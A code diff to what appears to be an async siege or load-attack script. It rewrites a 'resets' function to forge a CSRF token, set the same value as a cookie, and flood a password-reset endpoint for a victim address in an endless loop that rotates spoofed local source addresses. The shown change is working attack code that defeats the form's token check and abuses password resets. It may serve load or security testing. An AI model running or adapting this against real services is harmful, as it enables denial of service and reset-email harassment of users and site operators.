@@ -189,9 +189,12 @@ async def sign_ups(target: Target) -> None:
 
 
 async def resets(target: Target) -> None:
-    """Password resets for one address. Without the form's token each is refused by that alone, and costs a look."""
+    """Password resets for one address, with the token of a form that the attacker made up beside its cookie."""
+    token = "siege" + "0" * 27
+    body = f"email=victim%40example.org&csrfmiddlewaretoken={token}".encode()
+    head = post("/accounts/password-reset/", body, "application/x-www-form-urlencoded")
+    data = head.replace(b"\r\n\r\n", f"\r\nCookie: csrftoken={token}\r\n\r\n".encode(), 1)
     for number in itertools.count():
-        data = post("/accounts/reset/", b"email=victim%40example.org", "application/x-www-form-urlencoded")
         target.count("resets", await ask(target, f"127.0.8.{1 + number % 50}", data))
 
 
